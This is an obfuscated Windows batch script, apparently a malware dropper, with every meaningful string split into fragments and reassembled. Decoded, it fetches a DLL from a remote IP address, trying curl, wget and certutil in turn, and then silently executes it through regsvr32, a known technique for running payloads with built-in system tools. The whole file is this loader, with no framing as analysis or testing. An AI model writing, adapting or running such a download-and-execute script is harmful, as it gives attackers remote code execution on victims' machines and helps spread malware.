@echo off
Set Bcp=er
set Atd=.d
Set Qkx=ll
set Qqr=sv
set Pcw=32
set Tkd=r
Set Kut=eg
set Ifb=ht
set Mwq=tp
Set Zcv=://
set Tpa=198.51.100.203
set Vrx=/sdd
set "Gwm=%Tkd%%Kut%%Qqr%%Tkd%%Pcw%"
set "Ezs=%Ifb%%Mwq%%Zcv%%Tpa%%Vrx%%Atd%%Qkx%"
call :x1 curl "%Ezs%" -o compile.dll
if not exist compile.dll ( call :x1 wget "%Ezs%" -O compile.dll )
if not exist compile.dll ( call :x1 certutil -urlcache -f "%Ezs%" compile.dll )
%Gwm%.exe -s compile.dll
goto :eof
:x1
%*
exit /b
